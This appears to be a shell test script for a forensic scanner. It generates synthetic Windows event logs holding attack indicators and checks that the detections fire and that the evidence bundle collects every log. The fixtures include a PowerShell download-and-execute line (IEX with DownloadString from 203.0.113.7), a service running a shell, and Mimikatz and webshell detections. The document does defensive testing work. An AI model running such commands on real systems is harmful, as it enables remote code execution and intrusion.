#!/bin/sh
# Every event log of the system volume is read by channel and collected:
# Security, System, PowerShell, IIS configuration, Sysmon, Defender,
# Exchange, an archived Security log, a log of an unknown channel and a
# template-less (forwarded-events shaped) log.  The new checks fire, and the
# bundle of the scan holds every .evtx under winevt\Logs, each in the
# manifest.
. "$TOP/tests/lib/tap.sh"

L='\Windows\System32\winevt\Logs'
T='2024-05-01T10:00:00Z'
D="$TMP/logs"
mkdir -p "$D"

# evtx NAME [--templateless] < spec: one log; its Windows name and the
# generated file (no spaces, for the fixture spec) go to $TMP/map.
N=0
evtx() {
	N=$((N + 1))
	"$TOOLS/mkevtx" ${2:-} - "$D/$N.evtx" &&
	    printf '%s|%s\n' "$1" "$N.evtx" >>"$TMP/map"
}
evtx Security.evtx <<SPEC
Microsoft-Windows-Eventlog|Security|1102|4|$T||S-1-5-21-1-2-3-500|Administrator
Microsoft-Windows-Security-Auditing|Security|4720|4|$T||svc_x|CORP|S-1-5-21-1-2-3-1601
Microsoft-Windows-Security-Auditing|Security|4732|4|$T||-|S-1-5-21-1-2-3-1601|Administrators|Builtin|S-1-5-32-544
SPEC
evtx System.evtx <<SPEC
Service Control Manager|System|7045|4|$T||upd|%COMSPEC% /c whoami > C:\\Windows\\Temp\\o.txt|user mode service|demand start|LocalSystem
Microsoft-Windows-Eventlog|System|104|4|$T||Administrator|CORP|Application
SPEC
evtx Microsoft-Windows-PowerShell%4Operational.evtx <<SPEC
Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104|5|$T||1|1|IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')|{g}|
SPEC
evtx Microsoft-IIS-Configuration%4Operational.evtx <<SPEC
Microsoft-IIS-Configuration|Microsoft-IIS-Configuration/Operational|29|4|$T||MACHINE/WEBROOT/APPHOST|/system.webServer/globalModules/add[@name='IsapiCache']|CORP\\admin|ADD
SPEC
evtx Microsoft-Windows-Sysmon%4Operational.evtx <<SPEC
Microsoft-Windows-Sysmon|Microsoft-Windows-Sysmon/Operational|1|4|$T||-|x|{g}|4242|C:\\Windows\\System32\\cmd.exe|cmd /c whoami|C:\\Windows\\System32\\inetsrv\\w3wp.exe
SPEC
evtx 'Microsoft-Windows-Windows Defender%4Operational.evtx' <<SPEC
Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|1116|3|$T||4.18|{0F}|$T||2147735503|HackTool:Win32/Mimikatz.D|5|High|C:\\ProgramData\\m.exe
SPEC
evtx 'MSExchange Management.evtx' <<SPEC
MSExchange CmdletLogs|MSExchange Management|1|4|$T||Install-TransportAgent|{Name=Sec, AssemblyPath=C:\\Windows\\Temp\\s.dll}
SPEC
evtx Application.evtx <<SPEC
MSExchange Mitigation Service|Application|1008|2|$T||The leaf certificate is from unknown issuer or has EKU mismatch
SPEC
evtx Archive-Security-2024-04-01-00-00-00-000.evtx <<SPEC
Microsoft-Windows-Eventlog|Security|1102|4|2024-04-01T00:00:00Z||S-1-5-18
SPEC
evtx Contoso-Widget%4Operational.evtx <<SPEC
Contoso-Widget|Contoso-Widget/Operational|7|4|$T||started
Contoso-Widget|Contoso-Widget/Operational|8|4|$T||stopped
SPEC
evtx ForwardedEvents.evtx --templateless <<SPEC
Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|1116|3|$T||4.18|{0F}|$T||2147735503|Backdoor:ASP/Rshell.A|5|Severe|C:\\inetpub\\wwwroot\\aspnet_client\\r.aspx
SPEC
[ "$(wc -l <"$TMP/map")" -eq 11 ]; ok $? "11 event logs generated"

{
	sed -n '/^disk/,$p' "$TOP/tests/fixtures/exchange-basic.spec"
	while IFS='|' read -r name src; do
		printf 'file %s\\%s from:logs/%s\n' "$L" \
		    "$(printf '%s' "$name" | sed 's/%/%u0025/g; s/ /%u0020/g')" \
		    "$src"
	done <"$TMP/map"
} >"$TMP/disk.spec"
mkimage "$TMP/disk.spec" "$TMP/disk.img"
ok $? "disk with the logs under $L"
IMAGES="$TMP/disk.img"

run scan --format jsonl "$TMP/disk.img" --bundle "$TMP/case.zip"
cp "$TMP/out" "$TMP/scan.jsonl"
[ "$RC" -eq 1 ]; ok $? "scan with --bundle exits 1 (findings)"

fired() {	# fired CHECK FILE-SUFFIX
	grep "\"check\":\"$1\"" "$TMP/scan.jsonl" | grep -qF -- "$2\""
}
fired security/log-cleared 'Logs\\Security.evtx'; ok $? "Security 1102 (log cleared)"
fired security/log-cleared 'Archive-Security-2024-04-01-00-00-00-000.evtx'
ok $? "the archived Security log is read too"
fired security/user-created 'Security.evtx'; ok $? "Security 4720 (user created)"
fired security/added-to-administrators 'Security.evtx'; ok $? "Security 4732 to Administrators"
fired system/service-shell 'System.evtx'; ok $? "System 7045 service running a shell"
fired system/log-cleared 'System.evtx'; ok $? "System 104 (log cleared)"
fired powershell/scriptblock-download 'Operational.evtx'; ok $? "PowerShell 4104 download and run"
fired iis/module-added 'Microsoft-IIS-Configuration%4Operational.evtx'; ok $? "IIS configuration 29: module added"
fired process/web-worker-spawns-shell 'Sysmon%4Operational.evtx'; ok $? "Sysmon 1: w3wp starts cmd"
fired defender/hacktool-mimikatz 'Defender%4Operational.evtx'; ok $? "Defender HackTool:*/Mimikatz"
fired exchange/transport-agent 'MSExchange Management.evtx'; ok $? "Install-TransportAgent"
fired exchange/eems-error 'Application.evtx'; ok $? "EEMS 1008"
v=$(evtxinfo -V 2>/dev/null | sed -n 's/^evtxinfo \([0-9]*\).*/\1/p')
if fired defender/script-backdoor 'ForwardedEvents.evtx'; then
	ok 0 "template-less record read: Backdoor:ASP in ForwardedEvents.evtx"
else
	grep -q 'ForwardedEvents.evtx.*record 1, chunk 0, offset 0x200' "$TMP/scan.jsonl" "$TMP/err" "$TMP/out" 2>/dev/null
	ok 1 "template-less record read (libevtx ${v:-?}; needs >= 20240504: sh tests/lib/deps.sh)"
fi

mkdir "$TMP/x" && (cd "$TMP/x" && unzip -q ../case.zip)
python3 - "$TMP/x/manifest.jsonl" "$D" "$TMP/map" <<'PY'
import json, os, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding='utf-8')]
ev = {r['path'].rsplit('\\', 1)[-1]: r for r in rows
      if (r.get('path') or '').lower().endswith('.evtx')}
want = dict(l.rstrip('\n').split('|') for l in open(sys.argv[3]))
assert set(ev) == set(want), sorted(set(ev) ^ set(want))
for name, r in ev.items():
    assert r['reason'] == 'evtx', r
    assert r['status'] == 'collected', r
    assert r['size'] == os.path.getsize(os.path.join(sys.argv[2],
                                                     want[name])), r
PY
ok $? "the bundle holds all 11 event logs, each in the manifest, collected whole"
(cd "$TMP/x" && sha256sum -c --quiet SHA256SUMS)
ok $? "and they verify against SHA256SUMS"
grep -q "event logs of other channels: 1 files, 2 records read" "$TMP/err" &&
    ! grep -q "Contoso-Widget%4Operational.evtx: 2 records" "$TMP/err"
ok $? "the log of an unknown channel is read and counted in one summary note, not a note of its own"
report_unchanged
done_testing
